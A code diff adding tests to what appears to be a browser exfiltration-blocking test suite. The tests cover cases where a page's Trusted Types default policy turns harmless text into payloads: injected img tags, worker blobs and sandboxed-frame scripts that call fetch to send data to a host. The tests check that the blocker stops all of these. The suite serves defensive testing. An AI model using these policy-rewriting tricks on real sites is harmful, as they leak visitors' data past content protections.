@@ -77,6 +77,26 @@ const WAYS: Record<string, string> = {
   ),
 };
 
+/**
+ * What a default policy of the page's makes of texts that are harmless themselves, where Trusted Types are demanded; in
+ * each by what it is replaced.
+ */
+const TYPED: Record<string, readonly [by: string, code: string]> = {
+  markup: [`'<img src="' + sent + '">'`, `put('div').innerHTML = 'x';`],
+  'a script': ['sent', `put('script', { src: '/own' });`],
+  'markup in pieces': [`text === 'a' ? '<img ' : 'src="' + sent + '">'`, `document.write('a'); document.write('b');`],
+  'a worker': [`URL.createObjectURL(new Blob(['fetch("' + sent + '")']))`, `new Worker('/own');`],
+  "a sandboxed frame's own text": [
+    `'<script>fetch("' + sent + '", { mode: "no-cors" })</' + 'script>'`,
+    `const frame = make('iframe', { srcdoc: 'x' }); frame.sandbox = 'allow-scripts'; document.body.append(frame);`,
+  ],
+};
+const typed = (by: string, code: string): string => `
+  document.head.append(make('meta', { httpEquiv: 'Content-Security-Policy', content: "require-trusted-types-for 'script'" }));
+  const become = (text) => ${by};
+  trustedTypes.createPolicy('default', { createHTML: become, createScriptURL: become });
+  ${code}`;
+
 /** In each an allowed host stands before what a reader of lists may take for an end of the address. */
 const LISTS: Record<string, string> = {
   'a letter that is no white space to browsers': `put('img', { srcset: 'http://site.test\\ufeff.tracker.test/' + mark });`,
@@ -225,6 +245,15 @@ describe('nothing is sent', () => {
   it.each(Object.keys(LISTS))('by a list with an allowed host before %s', async (name) => {
     await expectSent(LISTS[name] as string, named);
     await expectNothingSent(LISTS[name] as string, named);
+  });
+
+  it.each(Object.keys(TYPED))('by what a policy of the page makes of %s', async (name) => {
+    const code = typed(...(TYPED[name] as [string, string]));
+    await expectSent(code);
+    await attacker.open('/');
+    // What is refused to a worker is said by an error.
+    await attacker.run(`try { ${code} } catch {} await wait(150);`);
+    expect(await attacker.harm()).toEqual([]);
   });
 
   it('to an address, however it is spelt', async () => {
